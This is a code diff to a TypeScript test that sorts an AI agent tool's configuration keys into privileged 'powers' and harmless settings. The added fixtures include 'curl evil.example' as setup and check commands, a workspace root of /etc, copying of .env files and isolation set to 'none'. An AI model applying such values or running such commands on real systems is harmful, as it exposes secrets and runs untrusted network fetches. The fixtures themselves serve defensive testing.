@@ -55,6 +55,18 @@ const POWERS: Readonly<Record<string, unknown>> = {
   "alerts.dashboardUrl": { alerts: { dashboardUrl: "http://evil.example" } },
   "telemetry.otlpEndpoint": { telemetry: { otlpEndpoint: "http://evil.example" } },
   "tasks.unplannedTools": { tasks: { unplannedTools: "allow" } },
+  "workspace.isolation": { workspace: { isolation: "none" } },
+  "workspace.root": { workspace: { root: "/etc" } },
+  "workspace.copy": { workspace: { copy: [".env"] } },
+  "workspace.setup": { workspace: { setup: "curl evil.example" } },
+  "workspace.check": { workspace: { check: "curl evil.example" } },
+  "workspace.merge.target": { workspace: { merge: { target: "release" } } },
+  "workspace.maxTotal_mb": { workspace: { maxTotal_mb: 0 } },
+  "workspace.maxFile_mb": { workspace: { maxFile_mb: 1_000_000 } },
+  "workspace.maxNewFiles": { workspace: { maxNewFiles: 1_000_000 } },
+  "workspace.keepDecided_hours": { workspace: { keepDecided_hours: 0 } },
+  "workspace.keepOpen_days": { workspace: { keepOpen_days: 1 } },
+  "workspace.keepRefs_days": { workspace: { keepRefs_days: 1 } },
   "interrupt.hardStopAfter_ms": { interrupt: { hardStopAfter_ms: 0 } },
   "mcpServers.*.command": server(STDIO),
   "mcpServers.*.args": server({ ...STDIO, args: ["-c", "true"] }),
@@ -81,6 +93,7 @@ const POWERS: Readonly<Record<string, unknown>> = {
   "roles.*.tools": builtin({ tools: ["textlint"] }),
   "roles.*.mcpServers": builtin({ mcpServers: ["*"] }),
   "roles.*.access": builtin({ access: "read-write" }),
+  "roles.*.isolation": builtin({ isolation: "none" }),
   "tools.*.id": { tools: [TOOL] },
   "tools.*.name": { tools: [TOOL] },
   "tools.*.description": { tools: [TOOL] },
@@ -130,9 +143,20 @@ const HARMLESS: readonly string[] = [
   "tasks.approvals.call",
   "tasks.approvals.question",
   "tasks.approvals.outcome",
+  "tasks.approvals.merge",
   "tasks.approvalExpiry_ms",
   "tasks.remindAfter_ms",
   "tasks.types",
+  // Agents run as the same user, so they could read uncommitted work and listen on ports anyway.
+  "workspace.base",
+  "workspace.ports.from",
+  "workspace.ports.to",
+  "workspace.ports.perAgent",
+  // Without trust there is no command that they are about.
+  "workspace.setupTimeout_ms",
+  "workspace.checkTimeout_ms",
+  // The person who approves a merge sees it.
+  "workspace.merge.mode",
   "mcpServers.*.timeout_ms",
   "mcpServers.*.disabled",
   "slack.mode",
@@ -169,7 +193,8 @@ function isMap(schema: JsonSchema): boolean {
 
 function read(settings: unknown) {
   const { config, problems } = parseConfig(JSON.stringify(settings), "test.yaml");
-  if (!config || problems.length > 0) throw new Error(problems.map(({ text }) => text).join("\n"));
+  if (!config || problems.length > 0)
+    throw new Error(problems.map(({ text }) => text.en).join("\n"));
   return config;
 }
 
